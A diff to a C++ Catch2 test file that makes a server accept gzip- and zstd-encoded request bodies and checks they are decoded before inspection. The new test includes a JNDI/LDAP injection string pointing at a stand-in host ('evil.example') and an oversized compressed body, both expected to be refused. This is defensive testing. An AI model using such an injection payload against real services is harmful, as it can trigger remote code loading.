@@ -2,6 +2,8 @@
 
 #include "server.h"
 
+#include "base/limits.h"
+#include "store/codec.h"
 #include "text/json.h"
 
 #include <catch2/catch.hpp>
@@ -60,7 +62,7 @@ constexpr std::string_view replica = "r_7hq3k2v9xw4mzp1c";
 
 }  // namespace
 
-TEST_CASE("a compressed body is refused, never stored as if it were plain", "[flow][sync]") {
+TEST_CASE("a body is compressed once or not at all, else it is refused", "[flow][sync]") {
   const test::TemporaryDirectory directory;
   write_data_site(directory);
   flow::Server server(directory.path());
@@ -69,17 +71,49 @@ TEST_CASE("a compressed body is refused, never stored as if it were plain", "[fl
   const std::string ann = token_of(directory, "ann") + "Content-Type: application/json\r\n";
   Connection connection(server.port());
   for (const std::string_view coding :
-       {"gzip", "zstd", "identity, gzip", "identity\r\nContent-Encoding: gzip"}) {
+       {"br", "deflate", "identity, gzip", "gzip, gzip", "identity\r\nContent-Encoding: gzip"}) {
     INFO(coding);
     const auto refused = connection.request(
         "PUT", "/kv/settings/ann", ann + "Content-Encoding: " + std::string(coding) + "\r\n", "5");
     CHECK(refused.status == 415);
-    CHECK(refused.field("accept-encoding") == "identity");
+    CHECK(refused.field("accept-encoding") == "gzip, zstd, identity");
     CHECK_THAT(refused.body, Catch::Contains("/_weir/problems/coded-body"));
   }
   CHECK(connection.get("/kv/settings/ann", ann).status == 404);
   CHECK(connection.request("PUT", "/kv/settings/ann", ann + "Content-Encoding: identity\r\n", "5")
             .status == 201);
+}
+
+TEST_CASE("a compressed body is decoded before it is inspected and stored", "[flow][sync]") {
+  const test::TemporaryDirectory directory;
+  write_data_site(directory);
+  flow::Server server(directory.path());
+  INFO(server.process().errors());
+  REQUIRE(server.port() != 0);
+  const std::string ann = token_of(directory, "ann") + "Content-Type: application/json\r\n";
+  const std::string gzip = ann + "Content-Encoding: gzip\r\n";
+  const std::string zstd = ann + "Content-Encoding: zstd\r\n";
+  Connection connection(server.port());
+  CHECK(connection.request("PUT", "/kv/settings/ann", gzip, store::gzip_of("\"five\"")).status ==
+        201);
+  CHECK(connection.get("/kv/settings/ann", ann).body == "\"five\"");
+  const std::string first = batch(std::string(replica), 1, "Buy milk");
+  const auto pushed =
+      connection.request("POST", "/sync/notes/ann/list/ops", zstd, store::zstd_of(first));
+  INFO(pushed.body);
+  CHECK(pushed.status == 200);
+  // What the firewall refuses in plain text it refuses in any coding.
+  const std::string attack = "\"${jndi:ldap://evil.example/a}\"";
+  CHECK(connection.request("PUT", "/kv/settings/ann", ann, attack).status == 403);
+  CHECK(connection.request("PUT", "/kv/settings/ann", gzip, store::gzip_of(attack)).status == 403);
+  CHECK(connection.request("PUT", "/kv/settings/ann", zstd, store::zstd_of(attack)).status == 403);
+  // A bomb, a body above the bound, and bytes that are neither.
+  const std::string large = '"' + std::string(limits::sync_body_bytes_max, 'x') + '"';
+  CHECK(connection.request("PUT", "/kv/settings/ann", gzip, store::gzip_of(large)).status == 413);
+  CHECK(connection.request("PUT", "/kv/settings/ann", zstd, store::zstd_of(large)).status == 413);
+  CHECK(connection.request("PUT", "/kv/settings/ann", gzip, "\"five\"").status == 400);
+  CHECK(connection.request("PUT", "/kv/settings/ann", zstd, "\"five\"").status == 400);
+  CHECK(connection.get("/kv/settings/ann", ann).body == "\"five\"");
 }
 
 TEST_CASE("an operation that was pushed is read, once, and its snapshot folds", "[flow][sync]") {
